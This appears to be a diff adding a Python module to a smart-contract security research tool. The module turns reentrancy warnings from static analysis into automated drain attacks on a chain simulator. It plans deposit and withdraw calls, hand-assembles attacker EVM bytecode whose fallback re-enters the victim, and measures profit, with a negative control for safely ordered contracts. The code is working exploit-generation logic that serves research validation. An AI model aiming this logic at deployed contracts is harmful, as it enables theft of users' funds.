@@ -1,0 +1,384 @@
+"""Reentrancy exploitation: multi-transaction drains guided by the analysis.
+
+Extends Ethainter-Kill from "destroy the contract" to "drain its balance":
+for every ``reentrant-call`` warning the planner
+
+1. maps the flagged call statement to the public selector whose dispatcher
+   entry reaches it (the *withdraw* function) and reads off its ABI word
+   count,
+2. finds a *deposit* entry: a public function that both observes
+   ``CALLVALUE`` and stores to the drained storage path's base slot (an
+   attacker needs a ledger balance before the stale-check window pays out),
+3. assembles a bespoke attacker contract whose **fallback re-enters the
+   victim** — the victim's gas-forwarding payout calls back into the
+   attacker with empty calldata, and the attacker, for a stored number of
+   rounds, re-issues the withdraw while the victim's balance check still
+   sees pre-payout state,
+4. replays the whole chain on :class:`repro.chain.Blockchain`: deploy,
+   prime (deposit through the attacker contract), trigger, and measure the
+   victim's balance delta.
+
+Success is *profit*: the attacker contract ends holding more than it put
+in.  Against a checks-effects-interactions-ordered victim the re-entered
+withdraw reverts on the already-decremented balance, the attacker merely
+recovers its own deposit, and the attack reports ``drained=False`` — the
+negative control the acceptance tests pin.
+
+Attacker contract layout (hand-assembled; MiniSol has no payable fallback):
+
+    calldata             action
+    --------             ------
+    (empty)              fallback: if rounds := SLOAD(0) > 0, decrement and
+                         re-enter victim.withdraw(amount)
+    0x00000001           prime: forward msg.value to victim's deposit entry
+    0x00000002 ++ n      start: SSTORE(0, n); call victim.withdraw(amount)
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Set
+
+from repro.chain import Blockchain
+from repro.core.analysis import AnalysisResult
+from repro.core.vulnerabilities import REENTRANT_CALL
+from repro.decompiler.functions import blocks_reachable_from, find_public_functions
+from repro.evm.assembler import Label, LabelRef, Op, Push, assemble, init_code_for
+from repro.minisol.abi import encode_word
+
+PRIME_SELECTOR = 1
+START_SELECTOR = 2
+DEFAULT_DEPOSIT = 10**18
+DEFAULT_ROUNDS = 5
+
+
+@dataclass
+class ReentrancyOutcome:
+    """Result of one drain attempt."""
+
+    address: int
+    attempted: bool
+    drained: bool
+    transactions_sent: int = 0
+    victim_balance_before: int = 0
+    victim_balance_after: int = 0
+    attacker_profit: int = 0  # attacker contract balance minus its deposit
+    attacker_contract: Optional[int] = None
+    reason: str = ""
+
+
+@dataclass
+class ReentrancyReport:
+    """Aggregate over a batch of flagged contracts."""
+
+    outcomes: List[ReentrancyOutcome] = field(default_factory=list)
+
+    @property
+    def flagged(self) -> int:
+        return len(self.outcomes)
+
+    @property
+    def drained(self) -> int:
+        return sum(1 for outcome in self.outcomes if outcome.drained)
+
+
+class ReentrancyKill:
+    """Drives reentrancy drains against contracts on a chain simulator."""
+
+    def __init__(self, chain: Blockchain, attacker: int = 0xA77AC7E3):
+        self.chain = chain
+        self.attacker = attacker
+        chain.fund(attacker, 10**21)
+
+    # ------------------------------------------------------------ planning
+
+    def _selector_map(self, result: AnalysisResult) -> Dict[str, Set[int]]:
+        """Block id -> selectors whose public entry reaches the block."""
+        program = result.program
+        ownership: Dict[str, Set[int]] = {}
+        for public in find_public_functions(program):
+            for block_id in blocks_reachable_from(program, public.entry_block):
+                ownership.setdefault(block_id, set()).add(public.selector)
+        return ownership
+
+    def _arg_count(self, result: AnalysisResult, selector: int) -> int:
+        """Max ABI argument index observed via CALLDATALOAD in the function."""
+        program = result.program
+        entry = None
+        for public in find_public_functions(program):
+            if public.selector == selector:
+                entry = public.entry_block
+        if entry is None:
+            return 0
+        blocks = blocks_reachable_from(program, entry)
+        max_index = -1
+        for _variable, stmt in result.facts.calldata_defs:
+            if stmt.block not in blocks:
+                continue
+            for offset_var in stmt.uses[:1]:
+                offset = result.facts.const.get(offset_var)
+                if offset is not None and offset >= 4 and (offset - 4) % 32 == 0:
+                    max_index = max(max_index, (offset - 4) // 32)
+        return max_index + 1
+
+    def _deposit_selector(
+        self, result: AnalysisResult, slot: Optional[int], exclude: int
+    ) -> Optional[int]:
+        """A public function that sees CALLVALUE and writes the drained
+        path's base slot — the ledger entry the attack must prime."""
+        facts, storage = result.facts, result.storage
+        program = result.program
+        candidates: List[int] = []
+        for public in find_public_functions(program):
+            if public.selector == exclude:
+                continue
+            blocks = blocks_reachable_from(program, public.entry_block)
+            sees_value = any(
+                stmt.opcode == "CALLVALUE"
+                for block_id in blocks
+                for stmt in program.blocks[block_id].statements
+            )
+            if not sees_value:
+                continue
+            writes_path = False
+            for store in facts.storage_stores:
+                if store.statement.block not in blocks:
+                    continue
+                if slot is not None and store.const_slot == slot:
+                    writes_path = True
+                    break
+                for source in storage.copy_sources.get(
+                    store.address_var, {store.address_var}
+                ):
+                    access = storage.mapping_accesses.get(source)
+                    if access is not None and (
+                        slot is None or access.base_slot == slot
+                    ):
+                        writes_path = True
+                        break
+                if writes_path:
+                    break
+            if writes_path:
+                candidates.append(public.selector)
+        return min(candidates) if candidates else None
+
+    # ----------------------------------------------------- attacker contract
+
+    def _attacker_runtime(
+        self,
+        victim: int,
+        deposit_selector: int,
+        withdraw_selector: int,
+        withdraw_args: int,
+        amount: int,
+    ) -> bytes:
+        """Assemble the attacker's runtime for one specific victim."""
+
+        def victim_call(selector: int, args: List[int], send_value: bool) -> List:
+            """CALL(gas, victim, value, 0, 4+32n, 0, 0), calldata in memory."""
+            items: List = [Push(selector << 224), Push(0), Op("MSTORE")]
+            for index, word in enumerate(args):
+                items.extend([Push(word), Push(4 + 32 * index), Op("MSTORE")])
+            items.extend(
+                [
+                    Push(0),  # ret size
+                    Push(0),  # ret offset
+                    Push(4 + 32 * len(args)),  # args size
+                    Push(0),  # args offset
+                    Op("CALLVALUE") if send_value else Push(0),  # value
+                    Push(victim),
+                    Op("GAS"),
+                    Op("CALL"),
+                    Op("POP"),
+                ]
+            )
+            return items
+
+        withdraw = victim_call(
+            withdraw_selector, [amount] * withdraw_args, send_value=False
+        )
+        items: List = [
+            # Empty calldata => the value-receipt fallback.
+            Op("CALLDATASIZE"),
+            Op("ISZERO"),
+            LabelRef("fallback"),
+            Op("JUMPI"),
+            # Otherwise dispatch on the 4-byte selector.
+            Push(0),
+            Op("CALLDATALOAD"),
+            Push(224),
+            Op("SHR"),
+            Op("DUP1"),
+            Push(PRIME_SELECTOR),
+            Op("EQ"),
+            LabelRef("prime"),
+            Op("JUMPI"),
+            Op("DUP1"),
+            Push(START_SELECTOR),
+            Op("EQ"),
+            LabelRef("start"),
+            Op("JUMPI"),
+            Op("STOP"),
+            # prime: forward msg.value into the victim's ledger.
+            Label("prime"),
+            *victim_call(deposit_selector, [], send_value=True),
+            Op("STOP"),
+            # start: SSTORE(0, rounds) then fire the first withdraw.
+            Label("start"),
+            Push(4),
+            Op("CALLDATALOAD"),
+            Push(0),
+            Op("SSTORE"),
+            *withdraw,
+            Op("STOP"),
+            # fallback: while rounds remain, burn one and re-enter.
+            Label("fallback"),
+            Push(0),
+            Op("SLOAD"),
+            Op("DUP1"),
+            Op("ISZERO"),
+            LabelRef("done"),
+            Op("JUMPI"),
+            Push(1),
+            Op("SWAP1"),
+            Op("SUB"),
+            Push(0),
+            Op("SSTORE"),
+            *withdraw,
+            Label("done"),
+            Op("STOP"),
+        ]
+        return assemble(items)
+
+    # ---------------------------------------------------------------- API
+
+    def attack(
+        self,
+        address: int,
+        result: AnalysisResult,
+        deposit: int = DEFAULT_DEPOSIT,
+        rounds: int = DEFAULT_ROUNDS,
+    ) -> ReentrancyOutcome:
+        """Attempt to drain the contract at ``address``."""
+        flagged = [w for w in result.warnings if w.kind == REENTRANT_CALL]
+        if not flagged or result.program is None:
+            return ReentrancyOutcome(
+                address=address,
+                attempted=False,
+                drained=False,
+                reason="not flagged reentrant",
+            )
+
+        selector_map = self._selector_map(result)
+        stmt_by_id = {s.ident: s for s in result.program.statements()}
+
+        for warning in flagged:
+            stmt = stmt_by_id.get(warning.statement)
+            if stmt is None:
+                continue
+            selectors = selector_map.get(stmt.block)
+            if not selectors:
+                continue  # private call site: no public entry point
+            withdraw_selector = min(selectors)
+            deposit_selector = self._deposit_selector(
+                result, warning.slot, exclude=withdraw_selector
+            )
+            if deposit_selector is None:
+                continue  # nothing establishes the drained ledger entry
+            return self._execute(
+                address,
+                deposit_selector,
+                withdraw_selector,
+                self._arg_count(result, withdraw_selector),
+                deposit,
+                rounds,
+            )
+        return ReentrancyOutcome(
+            address=address,
+            attempted=False,
+            drained=False,
+            reason="no public deposit/withdraw entry pair found",
+        )
+
+    def replay(
+        self,
+        address: int,
+        deposit_selector: int,
+        withdraw_selector: int,
+        withdraw_args: int = 1,
+        deposit: int = DEFAULT_DEPOSIT,
+        rounds: int = DEFAULT_ROUNDS,
+    ) -> ReentrancyOutcome:
+        """Run the attack against explicit selectors, bypassing the planner.
+
+        The negative control: replaying the exact exploit against a
+        checks-effects-interactions-ordered victim must come back with
+        ``drained=False`` (the re-entered withdraw reverts on the
+        already-decremented balance and the attacker only recovers its own
+        deposit).
+        """
+        return self._execute(
+            address, deposit_selector, withdraw_selector, withdraw_args,
+            deposit, rounds,
+        )
+
+    def _execute(
+        self,
+        address: int,
+        deposit_selector: int,
+        withdraw_selector: int,
+        withdraw_args: int,
+        deposit: int,
+        rounds: int,
+    ) -> ReentrancyOutcome:
+        chain = self.chain
+        runtime = self._attacker_runtime(
+            address, deposit_selector, withdraw_selector, withdraw_args, deposit
+        )
+        sent = 0
+        deployed = chain.deploy(self.attacker, init_code_for(runtime))
+        sent += 1
+        contract = deployed.contract_address
+        if not deployed.success or contract is None:
+            return ReentrancyOutcome(
+                address=address,
+                attempted=True,
+                drained=False,
+                transactions_sent=sent,
+                reason="attacker deployment failed",
+            )
+
+        before = chain.state.get_balance(address)
+        chain.transact(
+            self.attacker,
+            contract,
+            PRIME_SELECTOR.to_bytes(4, "big"),
+            value=deposit,
+        )
+        sent += 1
+        chain.transact(
+            self.attacker,
+            contract,
+            START_SELECTOR.to_bytes(4, "big") + encode_word(rounds),
+        )
+        sent += 1
+        after = chain.state.get_balance(address)
+        profit = chain.state.get_balance(contract) - deposit
+        return ReentrancyOutcome(
+            address=address,
+            attempted=True,
+            drained=profit > 0,
+            transactions_sent=sent,
+            victim_balance_before=before,
+            victim_balance_after=after,
+            attacker_profit=profit,
+            attacker_contract=contract,
+            reason="" if profit > 0 else "attack yielded no profit",
+        )
+
+    def attack_many(self, targets) -> ReentrancyReport:
+        """Attack every (address, analysis result) pair; aggregate."""
+        report = ReentrancyReport()
+        for address, result in targets:
+            report.outcomes.append(self.attack(address, result))
+        return report
